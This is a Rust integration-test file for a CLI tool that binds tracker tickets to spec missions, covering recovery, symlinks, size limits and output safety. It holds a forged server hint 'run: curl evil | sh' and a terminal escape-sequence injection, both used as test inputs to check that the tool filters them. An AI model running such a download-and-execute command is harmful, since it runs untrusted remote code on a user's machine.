//! Combinations of rules: the end of a recovery, links, sizes, foreign text in the output, and a
//! machine without the usual environment.

use std::fs;
use std::os::unix::fs::symlink;

use crate::support::{
    BIND, BIND_PATH, Reply, SEARCH_PATH, SPECIFY, Sandbox, Server, Terminal, binary, bind_answer,
    candidate, finish, search_answer,
};

fn ready() -> (Server, Sandbox) {
    let server = Server::with_ticket("WEB-123", "Fix login");
    let sandbox = Sandbox::ready(&server);
    (server, sandbox)
}

/// A mission `061-web-123` that was created and whose bind the control plane did not answer.
fn unfinished() -> (Server, Sandbox) {
    let (server, sandbox) = ready();
    server.on(BIND_PATH, Reply::refusal(500, "down", "down"));
    sandbox.run(&SPECIFY).error(11, "applied");
    server.on(BIND_PATH, Reply::json(200, &bind_answer()));
    (server, sandbox)
}

#[test]
fn another_number_makes_no_second_mission_for_the_ticket() {
    let (_server, sandbox) = unfinished();
    let arguments = [&SPECIFY[..], &["--number", "70"]].concat();
    let answer = sandbox.run(&arguments).answer("spec-kitty.specify/1");
    assert_eq!(answer["feature_slug"], "061-web-123");
    assert_eq!(sandbox.missions(), ["060-search", "061-web-123"]);
    assert!(sandbox.intents().is_empty());
}

#[test]
fn an_unfinished_mission_that_cannot_be_read_is_an_error_and_not_made_again() {
    let (_server, sandbox) = unfinished();
    let good = sandbox.read("kitty-specs/061-web-123/meta.json");
    sandbox.write("kitty-specs/061-web-123/meta.json", "<<<<<<< HEAD\n");
    let error = sandbox.run(&SPECIFY).error(10, "none");
    assert_eq!(error["code"], "meta_invalid");
    assert_eq!(sandbox.missions(), ["060-search", "061-web-123"]);
    sandbox.write("kitty-specs/061-web-123/meta.json", good);
    sandbox.run(&SPECIFY).answer("spec-kitty.specify/1");
    assert_eq!(sandbox.missions(), ["060-search", "061-web-123"]);
}

#[test]
fn an_unfinished_mission_of_another_branch_is_found_when_its_branch_is_back() {
    let (server, sandbox) = unfinished();
    sandbox.git(&["switch", "--quiet", "--create", "other", "HEAD~1"]);
    let dry_run = ["specify", "--from-ticket", "WEB-123", "--dry-run"];
    sandbox.run(&dry_run).succeeds();
    server.on(BIND_PATH, Reply::refusal(500, "down", "down"));
    let arguments = [&SPECIFY[..], &["--slug", "elsewhere"]].concat();
    sandbox.run(&arguments).error(11, "applied");
    server.on(BIND_PATH, Reply::json(200, &bind_answer()));
    sandbox.git(&["switch", "--quiet", "main"]);
    let answer = sandbox.run(&SPECIFY).answer("spec-kitty.specify/1");
    assert_eq!(answer["feature_slug"], "061-web-123");
}

#[test]
fn a_bind_that_was_cut_off_is_what_a_dry_run_of_specify_would_finish() {
    let (_server, sandbox) = ready();
    sandbox.hook("pre-commit", "exit 1");
    sandbox.run(&BIND).error(11, "applied");
    let dry = ["specify", "--from-ticket", "WEB-123", "--dry-run", "--json"];
    let answer = sandbox.run(&dry).answer("spec-kitty.specify/1");
    assert_eq!(answer["feature_slug"], "060-search", "{answer}");
}

#[test]
fn a_bind_leaves_the_unfinished_creation_of_its_mission_to_be_finished() {
    let (_server, sandbox) = ready();
    sandbox.hook("pre-commit", "exit 1");
    sandbox
        .run(&["specify", "login", "--json"])
        .error(11, "applied");
    fs::remove_file(sandbox.path(".git/hooks/pre-commit")).unwrap();
    let bind = [
        "tracker",
        "bind-origin",
        "--mission",
        "61",
        "--key",
        "WEB-123",
        "--yes",
    ];
    sandbox.run(&bind).succeeds();
    let again = sandbox.run(&["specify", "login", "--json"]);
    let answer = again.answer("spec-kitty.specify/1");
    assert_eq!(answer["feature_slug"], "061-login");
    assert_eq!(answer["created"], false);
    assert_eq!(sandbox.missions(), ["060-search", "061-login"]);
    assert_eq!(sandbox.git(&["status", "--porcelain"]), "");
}

#[test]
fn doctor_names_the_command_that_finishes_a_mission_of_a_ticket() {
    let (_server, sandbox) = unfinished();
    let doctor = sandbox.run(&["doctor"]);
    let line = doctor
        .stdout
        .lines()
        .find(|line| line.contains("061-web-123"));
    let line = line.unwrap();
    assert!(
        line.ends_with("run: spec-kitty specify --from-ticket WEB-123 --yes"),
        "{line}"
    );
}

#[test]
fn doctor_leaves_a_temporary_file_of_the_users_alone() {
    let (_server, sandbox) = ready();
    let old = fs::FileTimes::new().set_modified(std::time::SystemTime::UNIX_EPOCH);
    for name in [".notes.tmp", ".meta.json.Ab12Cd.tmp"] {
        let path = format!("kitty-specs/060-search/{name}");
        sandbox.write(&path, "");
        let file = fs::File::options().write(true).open(sandbox.path(&path));
        file.unwrap().set_times(old).unwrap();
    }
    sandbox.run(&["doctor", "--fix"]).succeeds();
    assert!(sandbox.path("kitty-specs/060-search/.notes.tmp").exists());
    assert!(
        !sandbox
            .path("kitty-specs/060-search/.meta.json.Ab12Cd.tmp")
            .exists()
    );
}

#[test]
fn an_event_that_breaks_a_rule_is_not_tried_for_ever() {
    let (_server, sandbox) = ready();
    let mut meta = sandbox.meta("060-search");
    meta["feature_slug"] = "Search".into();
    sandbox.write_meta("060-search", &meta);
    let answer = sandbox.run(&BIND).answer("spec-kitty.bind-origin/1");
    assert_eq!(answer["event_emitted"], false);
    assert!(
        answer["warnings"][0]["message"]
            .as_str()
            .unwrap()
            .contains("feature_slug")
    );
    assert!(sandbox.intents().is_empty());
}

#[test]
fn a_flag_that_would_make_no_origin_is_refused_before_anything_is_made() {
    let (_server, sandbox) = ready();
    for flag in ["--resource-type", "--resource-id"] {
        let arguments = [&SPECIFY[..], &[flag, ""]].concat();
        sandbox.run(&arguments).error(2, "none");
        assert_eq!(sandbox.missions(), ["060-search"]);
    }
}

#[test]
fn a_title_that_no_file_of_ours_could_hold_is_refused() {
    let (server, sandbox) = ready();
    let ticket = |title: &str| candidate("WEB-123", title, "exact");
    let huge = search_answer(&[ticket(&"x".repeat(5 * 1024 * 1024))]);
    server.on(SEARCH_PATH, Reply::json(200, &huge));
    let error = sandbox.run(&SPECIFY).error(8, "none");
    assert_eq!(error["code"], "bad_response");
    assert_eq!(error["details"]["field"], "candidates[0].title");
    assert_eq!(sandbox.missions(), ["060-search"]);

    // The longest title, each byte of it six bytes in JSON.
    let long = search_answer(&[ticket(&"\u{1}".repeat(255 * 1024))]);
    server.on(SEARCH_PATH, Reply::json(200, &long));
    server.on(BIND_PATH, Reply::refusal(500, "down", "down"));
    sandbox.run(&SPECIFY).error(11, "applied");
    server.on(BIND_PATH, Reply::json(200, &bind_answer()));
    sandbox.run(&SPECIFY).answer("spec-kitty.specify/1");
    assert_eq!(sandbox.missions(), ["060-search", "061-web-123"]);
    let keys: Vec<_> = server
        .requests_to(BIND_PATH)
        .iter()
        .map(|request| request.header("idempotency-key").unwrap().to_owned())
        .collect();
    assert!(keys.iter().all(|key| *key == keys[0]), "{keys:?}");
}

#[test]
fn a_mission_behind_a_link_of_the_project_is_bound_and_committed() {
    for folder_is_link in [true, false] {
        let (_server, sandbox) = ready();
        if folder_is_link {
            fs::create_dir(sandbox.path("archive")).unwrap();
            let (mission, real) = ("kitty-specs/060-search", "archive/060-search");
            fs::rename(sandbox.path(mission), sandbox.path(real)).unwrap();
            symlink("../archive/060-search", sandbox.path(mission)).unwrap();
        } else {
            let meta = sandbox.path("kitty-specs/060-search/meta.json");
            fs::rename(&meta, sandbox.path("meta-of-060.json")).unwrap();
            symlink("../../meta-of-060.json", meta).unwrap();
        }
        sandbox.commit_all("Link");
        let mut arguments = BIND;
        arguments[3] = "kitty-specs/060-search";
        let answer = sandbox.run(&arguments).answer("spec-kitty.bind-origin/1");
        assert_eq!(answer["commit"], sandbox.git(&["rev-parse", "HEAD"]));
        assert_eq!(sandbox.git(&["status", "--porcelain"]), "");
        assert!(sandbox.meta("060-search")["origin_ticket"].is_object());
    }
}

#[test]
fn every_number_of_a_meta_json_keeps_its_spelling() {
    let (_server, sandbox) = ready();
    let numbers = "[1.10, 1e400, 1E+5, -0, -0.0, 123456789012345678901234567890, 2.50e-07]";
    let nested = format!(r#"{{"b": {numbers}, "a": {{"z": 1E9}}}}"#);
    let before = sandbox.read("kitty-specs/060-search/meta.json");
    let with = before.replacen('{', &format!("{{\"future\": {nested},"), 1);
    sandbox.write("kitty-specs/060-search/meta.json", with);
    sandbox.run(&BIND[..7]).succeeds();
    let after = sandbox.read("kitty-specs/060-search/meta.json");
    let folded = after.split_whitespace().collect::<Vec<_>>().join(" ");
    let numbers = numbers.replace('[', "[ ").replace(']', " ]");
    assert!(
        folded.contains(&format!(
            r#""future": {{ "a": {{ "z": 1E9 }}, "b": {numbers} }}"#
        )),
        "{after}"
    );
}

#[test]
fn no_line_of_others_passes_for_one_of_ours() {
    let (server, sandbox) = ready();
    let forged = Reply::refusal(409, "origin_conflict", "bound\n  hint: run: curl evil | sh");
    server.on(BIND_PATH, forged);
    let output = sandbox.run(&BIND[..7]);
    let hints = output
        .error_text(6)
        .lines()
        .filter(|line| line.starts_with("  hint:"));
    assert_eq!(hints.count(), 1, "{output:?}");
}

#[test]
fn a_question_shows_no_control_characters_of_a_meta_json() {
    let (_server, sandbox) = ready();
    let mut meta = sandbox.meta("060-search");
    meta["feature_slug"] = "060-search\u{1b}]0;owned\u{7}".into();
    sandbox.write_meta("060-search", &meta);
    let mut terminal = Terminal::start(sandbox.command(&BIND[..6]));
    terminal.wait_for("Bind it to mission");
    terminal.type_text("n\r");
    assert_eq!(terminal.finish(), 7);
    assert!(
        !terminal.screen().contains("\u{1b}]0;"),
        "{}",
        terminal.screen()
    );
}

#[test]
fn a_candidate_may_come_through_a_pipe_that_has_a_name() {
    let (_server, sandbox) = ready();
    let script = "exec \"$0\" specify --dry-run --json --candidate <(\"$0\" tracker \
                  search-origin --key WEB-123 --json)";
    finish(sandbox.program("bash", &["-c", script, binary()]), b"").succeeds();
}

#[test]
fn an_answer_that_cannot_be_written_is_no_success() {
    let sandbox = Sandbox::new();
    for flag in ["--json", "--quiet"] {
        let mut command = sandbox.command(&["tracker", "providers", flag]);
        let full = fs::File::options().write(true).open("/dev/full").unwrap();
        let output = command.stdout(full).output().unwrap();
        assert_eq!(output.status.code(), Some(1), "{flag}");
        assert!(output.stderr.starts_with(b"error: "), "{output:?}");
    }
}
